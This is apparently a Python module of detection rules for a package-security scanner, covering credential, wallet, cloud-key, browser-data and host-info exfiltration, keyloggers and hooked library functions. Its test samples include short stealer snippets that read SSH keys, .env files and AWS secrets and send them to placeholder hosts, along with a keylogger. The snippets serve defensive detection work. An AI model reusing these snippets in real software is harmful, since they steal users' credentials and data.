"""exfiltration.*: secrets and host data sent out."""

from __future__ import annotations

from pipwarden.findings import Severity
from pipwarden.rules import ON_LOAD, Where
from pipwarden.scan.facts import Event, Fact, Hit, Observation, ScopeFacts
from pipwarden.scan.rules._base import (
    CRITICAL,
    HIGH,
    MEDIUM,
    at_runtime,
    negative,
    on_load,
    positive,
    rule,
    together,
)
from pipwarden.scan.rules._samples import URL

#: credentials, when the same code (a function, or what import starts) names credential
#: files and sends network data, with no flow seen from one to the other.
NAMED_AND_SENT: Severity = HIGH

#: One function names credential files and sends network data (no flow seen).
named_and_sent = together(
    Event.SECRET_SEEN,
    Event.NET,
    at=Event.NET,
    message="names credential, browser or wallet files and sends network data in the same function",
    severity=NAMED_AND_SENT,
)


def named_and_sent_on_import(s: ScopeFacts) -> Hit | None:
    """The same, spread over the hooks and threads import starts (not in setup.py)."""
    iev = s.import_events
    if Event.SECRET_SEEN in iev and Event.NET in iev and not s.setup:
        return Hit(
            iev[Event.NET],
            "code started on import names credential files and sends network data",
            NAMED_AND_SENT,
        )
    return None


def records_and_sends(s: ScopeFacts) -> Hit | None:
    """One file records keystrokes or the screen and sends network data."""
    ev = s.events
    if Event.SPY in ev and Event.NET in ev:
        return Hit(
            ev[Event.SPY],
            "records keystrokes or the screen and sends data over the network",
            surveillance_severity(on_import=Event.SPY in s.module_events and not s.script),
        )
    return None


def _credentials_severity(o: Observation) -> Severity | None:
    """A stealer's text is high; secrets bound for a host written in the code are
    critical wherever the code runs; else the severity of the context (medium in code
    the package's user calls: a client sends the user's token to the service the user
    names, a registry's token endpoint, a configured server)."""
    if o.fact is Fact.STEALER_TEXT:
        return NAMED_AND_SENT
    if o.collector:
        return CRITICAL
    return None


RULES = [
    rule(
        "exfiltration.credentials",
        CRITICAL,
        "CWE-200",
        "Credentials sent over the network",
        "Credential files, browser or wallet data, or the whole environment reach a network "
        "send in the same function. Critical when they are bound for a host written in the "
        "code, or when the code runs on install, import or start-up; medium in code the "
        "package's user calls that sends them to a host it is given (a client "
        "authenticating to the service or registry its user names).",
        "Do not install; rotate any secret exposed to it.",
        severity_in=at_runtime(MEDIUM),
        samples=(
            positive(
                "import os, requests\ndef f():\n"
                "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                f"    requests.post({URL!r}, data=key)\n"
            ),
            # Files a walk finds by a credential file's name, read (a failed read leaves
            # an empty table) and sent.
            positive(
                "import os, requests\ndef f(root):\n    found = {}\n"
                "    for folder, _, names in os.walk(root):\n        for name in names:\n"
                "            if name == '.env' or name.endswith('.env'):\n"
                "                try:\n"
                "                    text = open(os.path.join(folder, name)).read()\n"
                "                except OSError:\n                    text = ''\n"
                "                found[name] = text\n"
                f"    requests.post({URL!r}, json=found)\n"
            ),
            # The whole environment, imported by name (`from os import environ`).
            positive(
                "import requests\nfrom os import environ\ndef f():\n    s = ''\n"
                "    for _, value in environ.items():\n        s += value + ' '\n"
                f"    requests.get({URL!r} + s)\n"
            ),
            negative(
                "import requests\ndef f():\n    cfg = open('config.json').read()\n"
                f"    requests.post({URL!r}, data=cfg)\n"
            ),
            negative(
                "import requests\nfrom os import environ\ndef f():\n"
                f"    requests.get({URL!r} + environ.get('LANG', ''))\n"
            ),
            negative(
                "import os, requests\ndef f(root):\n    found = {}\n"
                "    for folder, _, names in os.walk(root):\n        for name in names:\n"
                "            if name.endswith('.json'):\n"
                "                found[name] = open(os.path.join(folder, name)).read()\n"
                f"    requests.post({URL!r}, json=found)\n"
            ),
        ),
        when=(Fact.SECRET_SENT, Fact.SECRET_ENV_SENT, Fact.STEALER_TEXT),
        severity_of=_credentials_severity,
        per_scope=(named_and_sent,),
        per_file=(named_and_sent_on_import,),
    ),
    rule(
        "exfiltration.host-info",
        MEDIUM,
        "CWE-497",
        "Host details sent over the network",
        "Host name, user name or an environment variable reaches a network send.",
        "Check that this is documented telemetry.",
        severity_in=on_load(HIGH),
        samples=(
            positive(
                f"import socket, requests\ndef f():\n    requests.post({URL!r}, data={{'h': socket.gethostname()}})\n"
            ),
            negative(f"import requests\ndef f():\n    requests.post({URL!r}, data={{'a': 1}})\n"),
        ),
        when=(Fact.HOST_INFO_SENT, Fact.HOST_INFO_SENT_TO_ODD_HOST),
        severity_of=lambda o: host_info_severity(
            o.where or Where.RUNTIME, odd_host=o.fact is Fact.HOST_INFO_SENT_TO_ODD_HOST
        ),
    ),
    rule(
        "exfiltration.wallet-secret",
        HIGH,
        "CWE-200",
        "Wallet private key or seed phrase sent over the network",
        "A value named as a cryptocurrency wallet's private key or seed phrase (a parameter, "
        "variable, attribute or key) reaches a network send to an address written in the "
        "code. Wallet libraries sign locally: the key never needs to leave the process.",
        "Do not install; move the funds of any wallet whose key it was given.",
        severity_in=on_load(CRITICAL),
        samples=(
            positive(
                "import requests\ndef check_wallet(private_key):\n"
                f"    requests.post({URL!r}, json={{'k': private_key}})\n"
            ),
            negative(
                "import requests\nfrom eth_account import Account\ndef send(private_key, tx, rpc):\n"
                "    signed = Account.sign_transaction(tx, private_key)\n"
                f"    requests.post({URL!r}, json={{'params': [signed.raw_transaction.hex()]}})\n"
            ),
        ),
        when=(Fact.WALLET_KEY_SENT,),
    ),
    rule(
        "exfiltration.cloud-keys",
        HIGH,
        "CWE-200",
        "Cloud access key's secret sent to a third party",
        "A value named as a cloud access key's secret (access_key_secret, "
        "aws_secret_access_key) reaches a network send to an address written in the code "
        "that is not the cloud's. Cloud SDKs sign requests with the secret and never send it.",
        "Do not install; rotate the access keys it was given.",
        severity_in=on_load(CRITICAL),
        samples=(
            positive(
                "import requests\nclass Credentials:\n"
                "    def __init__(self, access_key_id, access_key_secret):\n"
                f"        requests.post({URL!r}, json={{'ak': access_key_id, 'sk': access_key_secret}})\n"
            ),
            # Read from the environment by its variable's name.
            positive(
                "import os, requests\ndef f():\n"
                "    secret = os.getenv('AWS_SECRET_ACCESS_KEY')\n"
                f"    requests.get({URL!r} + '/' + secret)\n"
            ),
            negative(
                "import hmac, requests\ndef call(access_key_id, access_key_secret, body):\n"
                "    sig = hmac.new(access_key_secret.encode(), body, 'sha256').hexdigest()\n"
                f"    requests.post({URL!r}, data=body, headers={{'Signature': sig}})\n"
            ),
        ),
        when=(Fact.CLOUD_SECRET_SENT,),
    ),
    rule(
        "exfiltration.found-files",
        HIGH,
        "CWE-200",
        "Files found in the user's folders sent over the network",
        "Code lists folders of the user's home or app data (~, %APPDATA%), and what it finds "
        "(file names, or files opened from them: chat sessions, wallets, keys) reaches a "
        "network send to an address written in the code.",
        "Do not install; rotate the sessions and secrets stored in the folders it lists.",
        severity_in=on_load(CRITICAL),
        samples=(
            positive(
                "import os, requests\ndef f():\n    d = os.path.expanduser('~/chat')\n"
                "    for n in os.listdir(d):\n        if n.endswith('.session'):\n"
                f"            requests.post({URL!r}, files={{'f': open(os.path.join(d, n), 'rb')}})\n"
            ),
            negative(
                "import os, requests\ndef f(folder):\n    for n in os.listdir(folder):\n"
                f"        requests.post({URL!r}, files={{'f': open(os.path.join(folder, n), 'rb')}})\n"
            ),
        ),
        when=(Fact.FOUND_FILES_SENT,),
    ),
    rule(
        "exfiltration.credential-access",
        MEDIUM,
        "CWE-522",
        "Reads credential files",
        "Code opens SSH keys, cloud or package-index credentials.",
        "Check why the package reads them.",
        samples=(
            positive(
                "import os\ndef f():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
            ),
            negative("def f():\n    return open('settings.ini').read()\n"),
        ),
        when=(Fact.CREDENTIAL_FILE_OPENED,),
    ),
    rule(
        "exfiltration.browser-data",
        MEDIUM,
        "CWE-522",
        "Reads browser or chat-app data",
        "Code opens browser password/cookie stores or Discord/Telegram storage.",
        "Do not install unless this is the package's stated purpose.",
        samples=(
            positive(
                "import os\ndef f(base):\n"
                "    return open(os.path.join(base, 'Google/Chrome/User Data/Default/Login Data'), 'rb')\n"
            ),
            negative("def f():\n    return open('data.db', 'rb')\n"),
        ),
        when=(Fact.BROWSER_DATA_OPENED,),
    ),
    rule(
        "exfiltration.surveillance",
        HIGH,
        "CWE-200",
        "Keylogger or screen capture with a network send",
        "One file hooks the keyboard or captures the screen and also sends data over the network.",
        "Do not install unless the package is a remote-desktop or monitoring tool you chose.",
        samples=(
            positive(
                "import requests\nfrom pynput import keyboard\nkeys = []\n"
                "def on_press(k):\n    keys.append(str(k))\n"
                "def flush():\n    requests.post('https://example.invalid/k', data=''.join(keys))\n"
                "keyboard.Listener(on_press=on_press).start()\n"
            ),
            negative(
                "from pynput import keyboard\ndef hotkeys(cb):\n"
                "    return keyboard.Listener(on_press=cb)\n"
            ),
        ),
        per_file=(records_and_sends,),
    ),
    rule(
        "exfiltration.function-hook",
        HIGH,
        "CWE-506",
        "Library function replaced by a sending wrapper",
        "Code replaces a function of another library (requests.Session.request, a wallet's "
        "key constructor) with a wrapper that sends data over the network: every call leaks.",
        "Do not install; check what the wrapper sends.",
        samples=(
            positive(
                "import requests, urllib.request\n_orig = requests.Session.request\n"
                "def _request(self, method, url, **kw):\n"
                "    urllib.request.urlopen('https://c.example.invalid/?u=' + url)\n"
                "    return _orig(self, method, url, **kw)\n"
                "requests.Session.request = _request\n",
                "pkg/__init__.py",
            ),
            # An SDK hooking on the user's init() call, not on import.
            negative(
                "import sys, urllib.request\ndef init(dsn):\n    def hook(tp, val, tb):\n"
                "        urllib.request.urlopen(dsn)\n    sys.excepthook = hook\n",
                "pkg/__init__.py",
            ),
        ),
        when=(Fact.FUNCTION_REPLACED_BY_SENDER,),
        severity_of=lambda o: CRITICAL if o.secret else HIGH,
    ),
]


def surveillance_severity(on_import: bool) -> Severity:
    """surveillance: critical when the recording starts on import, else high."""
    return CRITICAL if on_import else HIGH


def function_hook_severity(secret: bool) -> Severity:
    """function-hook: critical when the replaced function handles secrets (its name, or the
    wrapper's use of secret-looking words), else high."""
    return CRITICAL if secret else HIGH


def host_info_severity(where: Where, odd_host: bool) -> Severity:
    """host-info: high wherever the host written in the code is a public IP address or
    names a port other than HTTP's (`http://x.example:4242/log`: a collector the author
    runs, not a service's API; recon beacons of typosquats send there); else high on
    install, import or start-up and medium at run time."""
    return HIGH if odd_host or where in ON_LOAD else MEDIUM
